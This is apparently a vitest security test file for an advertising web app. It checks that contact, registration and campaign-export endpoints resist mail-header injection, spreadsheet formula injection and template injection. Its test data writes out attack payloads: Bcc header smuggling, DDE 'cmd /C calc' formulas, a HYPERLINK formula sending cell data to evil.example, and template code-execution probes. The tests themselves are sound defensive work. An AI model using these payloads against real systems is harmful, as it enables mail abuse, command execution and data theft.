import { describe, expect, test } from "vitest";

import { draftCampaign } from "../../support/data/drafts.ts";
import { until } from "../../support/people/api.ts";
import { makePerson } from "../../support/people/person.ts";
import { awaitMail, mailedTo } from "../../support/stage/outbox.ts";
import { useMade } from "../../support/stage/use-started.ts";
import { useBareStageWithBrand } from "../../support/stage/with-brand.ts";
import { recordsOfCsv } from "../records-of-csv.ts";

const SUPPORT = "support@adwright.example";

const { person, brand, stage } = useBareStageWithBrand();
const campaign = useMade(() => draftCampaign(person, brand.id, "Trail shoes"));

const lineBreaks = {
  CRLF: "\r\n",
  LF: "\n",
  CR: "\r",
  NEL: "\u0085",
  "line separator": "\u2028",
  "paragraph separator": "\u2029",
  "vertical tab": "\u000b",
  NUL: "\u0000",
};

const message = {
  name: "Ada",
  email: "ada@northwind.example",
  subject: "Help",
  category: "General",
  message: "Ads aren't running.",
};

describe("a mail header", () => {
  test.each(
    Object.entries(lineBreaks).flatMap(([name, mark]) =>
      (["name", "subject", "email"] as const).map((field) => [field, name, mark] as const),
    ),
  )("is not begun in the %s by %s", async (field, _, mark) => {
    const body = { ...message, [field]: `${message[field]}${mark}Bcc: everybody@evil.example` };
    const { status, body: answer } = await person.api("POST", "/api/contact/support", body);
    expect(status).toBe(422);
    expect(answer["validationErrors"]).toMatchObject([{ field }]);
  });

  test.each(Object.entries(lineBreaks))(
    "is not begun in a person's own name by %s",
    async (_, mark) => {
      const fullName = `Ada${mark}Bcc: everybody@evil.example`;
      const email = `ada-${encodeURIComponent(mark).toLowerCase().replaceAll("%", "")}@mail.example`;
      const response = await fetch(new URL("/api/auth/register", stage.origin), {
        method: "POST",
        headers: { "content-type": "application/json" },
        body: JSON.stringify({ username: "ada", email, fullName, password: "seven green bottles" }),
      });
      expect([200, 422]).toContain(response.status);
      const to = response.status === 200 ? await awaitMail(stage, email) : [];
      const headers = to.flatMap(({ to: address, replyTo, subject, headers: others }) => [
        address,
        replyTo ?? "",
        subject,
        ...Object.values(others ?? {}),
      ]);
      // oxlint-disable-next-line no-control-regex -- what must not be there
      expect(headers.filter((one) => /[\u0000-\u001f\u0085\u2028\u2029]/.test(one))).toEqual([]);
      expect(stage.standIns.mail.outbox().map((one) => one.to)).not.toContain(
        "everybody@evil.example",
      );
    },
  );
});

const formulas = [
  '=HYPERLINK("https://evil.example?"&A1,"Open")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-1+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  ' "=1+1',
  "＝1+1",
  "shoes;=1+1",
  "shoes\n=1+1",
];

/** As a spreadsheet reads a cell: what begins so is carried out. */
const FORMULA = /^[\s"]*[=+\-@＝＋－＠]/;

test.each(formulas)("%j is no formula in the file of a campaign", async (text) => {
  const [group] = campaign.adGroups;
  const body = {
    // A name has one line.
    name: text.trim().replaceAll("\n", ";"),
    negativeKeywords: [text.trim()],
    adGroups: [{ ...group, ad_group_name: text, headlines: [text, "Trail shoes"], path1: text }],
  };
  const path = `/api/campaigns/${campaign.id}`;
  expect((await person.api("PUT", path, body)).status).toBe(200);
  const exported = await fetch(new URL(`${path}/export`, stage.origin), {
    headers: { authorization: `Bearer ${person.accessToken}` },
  });
  expect(exported.status).toBe(200);
  const cells = recordsOfCsv(await exported.text()).flatMap((row) => Object.values(row));
  expect(
    cells.some((cell) => cell.includes("1+1") || cell.includes("evil") || cell.includes("calc")),
  ).toBe(true);
  expect(cells.filter((cell) => FORMULA.test(cell) && !/^-?[\d.]+$/.test(cell))).toEqual([]);
});

/** What any of the templates would come to: long enough to appear in no identifier, time or port by chance. */
const PRODUCT = "829348951";

const templates = [
  "{{7919*104729}}",
  "${7919*104729}",
  "#{7919*104729}",
  "<%= 7919*104729 %>",
  "{% print(7919*104729) %}",
  "[[${7919*104729}]]",
  "*{7919*104729}",
  "%{7919*104729}",
  "{{constructor.constructor('return 7919*104729')()}}",
];

test.each(templates)("%s is mailed and answered as it is written", async (text) => {
  const other = await makePerson(stage.origin, { fullName: text });
  const sent = { ...message, name: text, subject: text, message: text };
  const asked = await other.api<{ ticketId: string }>("POST", "/api/contact/support", sent);
  expect(asked.status).toBe(200);
  const { ticketId } = asked.body;
  const mail = await until(
    () =>
      Promise.resolve(mailedTo(stage, SUPPORT).find(({ subject }) => subject.includes(ticketId))),
    (one) => one !== undefined,
  );
  expect(mail?.subject).toContain(text);
  expect(mail?.text).toContain(text);
  expect(`${mail?.subject} ${mail?.text} ${mail?.html}`).not.toContain(PRODUCT);
  const me = await other.api("GET", "/api/auth/me");
  expect(me.body["fullName"]).toBe(text);
});
